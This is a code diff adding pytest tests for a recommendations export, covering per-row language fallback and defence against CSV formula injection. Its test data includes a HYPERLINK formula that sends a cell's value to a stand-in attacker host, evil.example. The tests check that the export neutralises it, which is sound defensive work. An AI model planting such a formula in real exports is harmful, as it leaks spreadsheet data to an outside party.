@@ -86,6 +86,69 @@ def test_export_leaves_out_drafts_and_the_draft_meeting(client, db):
     assert records[0]["meeting"] == ""
 
 
+@pytest.mark.parametrize("format", ["csv", "json"])
+def test_each_exported_row_names_the_language_its_text_is_in(client, db, format):
+    factories.recommendation(reference="CAB-2020-001", text="English.", text_ru="Русский.")
+    factories.recommendation(reference="CAB-2020-002", text="Only English.")
+    factories.recommendation(reference="CAB-2020-003", text="", text_ru="Только русский.")
+    url = reverse(f"recommendations:export_{format}")
+    found = {}
+    for prefix in ("", "/ru", "/kk"):
+        body = content(client.get(prefix + url)).decode("utf-8-sig")
+        records = json.loads(body) if format == "json" else csv.DictReader(io.StringIO(body))
+        for r in records:
+            found[prefix, r["reference"]] = (r["language"], r["text"])
+    assert found == {
+        ("", "CAB-2020-001"): ("en", "English."),
+        ("", "CAB-2020-002"): ("en", "Only English."),
+        ("", "CAB-2020-003"): ("ru", "Только русский."),
+        ("/ru", "CAB-2020-001"): ("ru", "Русский."),
+        ("/ru", "CAB-2020-002"): ("en", "Only English."),  # shown in English: marked so
+        ("/ru", "CAB-2020-003"): ("ru", "Только русский."),
+        ("/kk", "CAB-2020-001"): ("ru", "Русский."),  # Kazakh falls back to Russian first
+        ("/kk", "CAB-2020-002"): ("en", "Only English."),
+        ("/kk", "CAB-2020-003"): ("ru", "Только русский."),
+    }
+
+
+# Texts that begin like a formula, as Excel and LibreOffice read a cell (OWASP's list), and
+# one that begins with the quote that neutralises them.
+FORMULA_LIKE = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Details")',
+    "+7 (7172) 72-00-00",
+    "-1 day",
+    "@SUM(A1:A9)",
+    "\tindented",
+    "\rcarriage return",
+    "\nline feed",
+    "'quoted'",
+]
+
+
+def test_no_csv_cell_begins_like_a_spreadsheet_formula(client, db):
+    topic = factories.topic(slug="-minus-first")
+    meeting = factories.meeting(slug="-2021-meeting")
+    for n, text in enumerate(FORMULA_LIKE, start=1):
+        rec = factories.recommendation(reference=f"CAB-2020-{n:03d}", text=text, meeting=meeting)
+        rec.topics.add(topic)
+    body = content(client.get(reverse("recommendations:export_csv"))).decode("utf-8-sig")
+    header, *rows = list(csv.reader(io.StringIO(body)))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
+    shown = [dict(zip(header, row, strict=True)) for row in rows]
+    assert sorted(row["text"] for row in shown) == sorted(f"'{text}" for text in FORMULA_LIKE)
+    assert {(row["topics"], row["meeting"]) for row in shown} == {
+        ("'-minus-first", "'-2021-meeting")
+    }
+
+
+def test_the_json_export_keeps_texts_that_begin_like_a_formula_as_they_are(client, db):
+    for n, text in enumerate(FORMULA_LIKE, start=1):
+        factories.recommendation(reference=f"CAB-2020-{n:03d}", text=text)
+    records = json.loads(content(client.get(reverse("recommendations:export_json"))))
+    assert sorted(r["text"] for r in records) == sorted(FORMULA_LIKE)
+
+
 def test_the_list_links_to_its_downloads(client, demo):
     html = client.get(reverse("recommendations:list") + "?topic=children").content.decode()
     assert "/recommendations/export.csv?topic=children" in html
